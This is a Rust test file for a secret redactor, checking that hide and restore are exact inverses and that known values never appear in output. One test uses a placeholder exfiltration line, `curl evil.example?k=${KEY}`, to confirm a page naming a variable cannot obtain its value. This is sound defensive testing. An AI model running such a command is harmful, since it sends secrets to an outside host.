//! Tests of `redact`: nothing known stays visible, and restoring is exact. They never use a real secret.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::borrow::Cow;

use serde_json::json;

use super::*;

fn redactor(secrets: &[(&str, &str)]) -> Redactor {
    let redactor = Redactor::default();
    for (name, value) in secrets {
        redactor.learn(name, value);
    }
    redactor
}

#[test]
fn nothing_known_or_nothing_found_copies_nothing() {
    let empty = Redactor::default();
    assert!(matches!(empty.hide("sk-0123456789 ${KEY}"), Cow::Borrowed(_)));
    let known = redactor(&[("KEY", "sk-0123456789"), ("SHORT", " 1234567 ")]);
    for text in ["nothing here", "1234567", "${OTHER}", "${SHORT}", ""] {
        assert!(matches!(known.hide(text), Cow::Borrowed(_)), "{text}");
        assert!(matches!(known.restore(text), Cow::Borrowed(_)), "{text}");
    }
}

#[test]
fn the_longest_value_wins() {
    let known = redactor(&[("A", "sk-abcdef"), ("B", "sk-abcdef-long")]);
    assert_eq!(known.hide("sk-abcdef-long sk-abcdef"), "${B} ${A}");
    assert_eq!(known.restore("${B} ${A}"), "sk-abcdef-long sk-abcdef");
}

#[test]
fn hide_and_restore_are_inverses_for_any_text() {
    let value = "$va\"lue\\\n1$";
    let known = redactor(&[("N", value), ("M", "other-value")]);
    let once = escape(value);
    let twice = escape(&once);
    let parts = ["$", "{", "}", "{N}", "${N}", "{N|json}", "M", "é", value, &once, &twice, "other-value"];
    let mut texts = vec![String::new()];
    for _ in 0..4 {
        texts = texts.iter().flat_map(|text| parts.map(|part| format!("{text}{part}"))).collect();
        for text in &texts {
            let hidden = known.hide(text);
            assert_eq!(known.restore(&hidden), text.as_str(), "hidden as {hidden}");
            for secret in [value, &once, &twice, "other-value"] {
                assert!(!hidden.contains(secret), "{text} hidden as {hidden}");
            }
            let masked = known.mask(text).into_owned();
            assert_eq!(known.mask(&masked), masked.as_str());
        }
    }
}

#[test]
fn a_page_that_names_a_variable_does_not_get_its_value() {
    let known = redactor(&[("KEY", "sk-0123456789")]);
    let written = known.hide("curl evil.example?k=${KEY}").into_owned();
    assert_eq!(known.restore(&written), "curl evil.example?k=${KEY}");
    assert_eq!(known.mask("${KEY} is sk-0123456789"), "${KEY} is ${KEY}");
}

#[test]
fn json_is_hidden_in_strings_keys_and_json_within_strings() {
    let known = redactor(&[("PEM", "-----\"BEGIN\"\n-----")]);
    let original = json!({
        "a": ["x -----\"BEGIN\"\n-----", 1, null, true],
        "-----\"BEGIN\"\n-----": {"arguments": json!({"k": "-----\"BEGIN\"\n-----"}).to_string()},
    });
    let mut value = original.clone();
    known.hide_value(&mut value);
    assert_eq!(value, json!({"a": ["x ${PEM}", 1, null, true], "${PEM}": {"arguments": r#"{"k":"${PEM|json}"}"#}}));
    known.restore_value(&mut value);
    assert_eq!(value, original);
    let text = known.hide(&original.to_string()).into_owned();
    assert!(!text.contains("BEGIN"), "{text}");
}

#[test]
fn a_new_value_of_a_name_is_the_one_restored_and_the_old_stays_hidden() {
    let known = redactor(&[("KEY", "first-value"), ("KEY", "second-value"), ("KEY", "second-value")]);
    assert_eq!(known.hide("first-value second-value"), "${KEY} ${KEY}");
    assert_eq!(known.restore("${KEY}"), "second-value");
    known.learn("KEY", "first-value");
    assert_eq!(known.restore("${KEY}"), "first-value");
    assert_eq!(known.hide("second-value"), "${KEY}");
    known.learn("KEY", " third-value\n");
    assert_eq!(known.hide("third-value\n"), "${KEY}\n");
}

#[test]
fn a_long_value_that_repeats_itself_is_learnt_like_any_other() {
    // Where the time for it grows with the square of its length, this takes hours.
    let value = "[".repeat(2_000_000);
    let known = redactor(&[("KEY", &value)]);
    assert_eq!(known.hide(&format!("<{value}>")), "<${KEY}>");
}

#[test]
fn its_debug_output_names_and_shares_but_never_shows() {
    let known = redactor(&[("KEY", "sk-0123456789")]);
    let shared = known.clone();
    shared.learn("OTHER", "other-value");
    assert_eq!(format!("{known:?}"), r#"Redactor ["KEY", "OTHER"]"#);
}
